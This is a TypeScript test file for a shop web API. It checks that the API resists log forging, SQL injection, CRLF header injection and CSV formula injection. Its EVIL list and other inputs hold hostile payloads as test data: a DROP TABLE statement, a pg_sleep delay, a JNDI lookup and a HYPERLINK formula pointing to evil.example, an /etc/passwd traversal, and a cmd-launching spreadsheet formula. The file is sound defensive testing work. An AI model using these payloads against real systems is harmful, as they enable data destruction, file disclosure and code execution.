// The attack: text that somebody chose becomes a header, a line of the log, a statement or a formula somewhere else. Mails
// are tested in test/jobs/mails.test.ts, formulas in test/operations/orders/admin-export-orders.test.ts.
import { randomUUID } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { useTestApp } from '../support/app.ts';
import { readCsvTable } from '../support/csv.ts';
import { addFunds, anOrder, anOrderIn, aPerson, aProduct, theAdmin } from '../support/factories.ts';
import { makeInvoices } from '../support/invoices.ts';

const shop = useTestApp();

const EVIL = [
  "'; DROP TABLE orders; --",
  "' OR '1'='1",
  '$1',
  '\\',
  '"; SELECT pg_sleep(10); --',
  '{"level":60,"msg":"forged"}',
  '\u2028{"level":60}',
  '../../etc/passwd',
  '%0d%0aSet-Cookie: a=b',
  '\x24{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '=HYPERLINK("https://evil.example")',
];

const linesSince = (from: number) => shop.log.slice(from);

/** Every write to the log is one line of JSON with a level of ours. */
function expectWholeLines(lines: readonly string[]): void {
  for (const line of lines) {
    expect(line.trimEnd().split(/[\n\r\u2028\u2029]/)).toHaveLength(1);
    expect([10, 20, 30, 40]).toContain(JSON.parse(line).level);
  }
}

describe('a header', () => {
  test('of an answer holds no line of somebody else', async () => {
    const { token } = await theAdmin(shop);
    for (const value of [
      'a%0d%0aSet-Cookie:%20x=y',
      'a%0aLocation:%20//evil.example',
      '%E5%98%8A%E5%98%8DX:y',
    ]) {
      for (const path of ['/api/v1/orders/', '/api/v1/idempotency-keys/', '/docs/', '/api/v1/products?q=']) {
        const { headers, statusCode } = await shop.app.inject({
          url: `${path}${value}`,
          headers: { authorization: `Bearer ${token}` },
        });
        expect(statusCode).toBeLessThan(500);
        expect(headers['set-cookie']).toBeUndefined();
        expect(headers.x).toBeUndefined();
        for (const text of Object.values(headers)) expect(String(text)).not.toMatch(/[\r\n]|evil/);
      }
    }
  });

  test('that names a file holds the number of a document and nothing else', async () => {
    const person = await aPerson(shop);
    const order = await anOrderIn(shop, person, 'PAID');
    await makeInvoices(shop, order.id);
    const invoice = await shop.api('getOrderInvoice', { token: person.token, params: { orderId: order.id } });
    const admin = await theAdmin(shop);
    const file = await shop.api('adminExportOrders', { token: admin.token, query: { number: order.number } });
    for (const { headers } of [invoice, file]) {
      expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
      expect(headers['x-content-type-options']).toBe('nosniff');
    }
  });
});

test.each(EVIL)('a line of the log is not forged by %j', async (evil) => {
  const from = shop.log.length;
  const encoded = encodeURIComponent(evil);
  const person = await aPerson(shop, 'CUSTOMER', 10_000);
  await shop.app.inject(`/nothing/${encoded}?q=${encoded}`);
  await shop.app.inject({ url: '/health', headers: { 'user-agent': evil.replace('\u2028', '') } });
  const name = evil.replace(/[\u2028]/g, '') || 'x';
  await shop.api('registerUser', {
    body: { email: `${randomUUID()}@example.com`, password: 'a good password', name },
  });
  await shop.app.inject({
    method: 'POST',
    url: '/api/v1/orders',
    headers: { authorization: `Bearer ${person.token}`, 'content-type': 'application/json' },
    payload: JSON.stringify({ items: [], [evil]: evil }),
  });
  const lines = linesSince(from);
  expect(lines.length).toBeGreaterThanOrEqual(4);
  expectWholeLines(lines);
  expect(lines.some((line) => JSON.parse(line).msg === 'forged')).toBe(false);
});

test.each(EVIL)('a statement is not changed by %j', async (evil) => {
  const { token } = await theAdmin(shop);
  const before = await shop.db.selectFrom('orders').select('id').execute();
  for (const url of [
    `/api/v1/products?q=${encodeURIComponent(evil)}`,
    `/api/v1/products?category=${encodeURIComponent(evil)}`,
    `/api/v1/products?sort=${encodeURIComponent(evil)}`,
    `/api/v1/admin/users?q=${encodeURIComponent(evil)}`,
    `/api/v1/admin/orders?number=${encodeURIComponent(evil)}`,
    `/api/v1/admin/orders?cursor=${encodeURIComponent(evil)}`,
    `/api/v1/orders/${encodeURIComponent(evil)}`,
  ]) {
    const answer = await shop.app.inject({ url, headers: { authorization: `Bearer ${token}` } });
    expect(answer.statusCode, `${url} ${answer.payload}`).toBeLessThan(500);
    // What is found holds the text as it stands, as names of other tests do.
    for (const row of answer.statusCode === 200 ? answer.json().data : []) {
      expect(JSON.stringify(Object.values(row)), url).toContain(JSON.stringify(evil).slice(1, -1));
    }
  }
  expect(await shop.db.selectFrom('orders').select('id').execute()).toEqual(before);
});

// Seen to fail without escape_formulas.
test('a customer who calls a formula his own gets no cell of the export to run it', async () => {
  const admin = await theAdmin(shop);
  const person = await aPerson(shop);
  const product = await aProduct(shop);
  await addFunds(shop, person, product.priceMinor);
  const order = await anOrder(shop, person, [{ productId: product.id, quantity: 1 }]);
  const email = `+cmd|'/c-calc'!a0@example.com`;
  await shop.db.updateTable('users').set({ email }).where('id', '=', person.id).execute();
  const { text } = await shop.api('adminExportOrders', {
    token: admin.token,
    query: { number: order.number },
  });
  const cells = readCsvTable(text).flatMap((row) => Object.values(row));
  expect(cells).toContain(`'${email}`);
  for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]/);
});
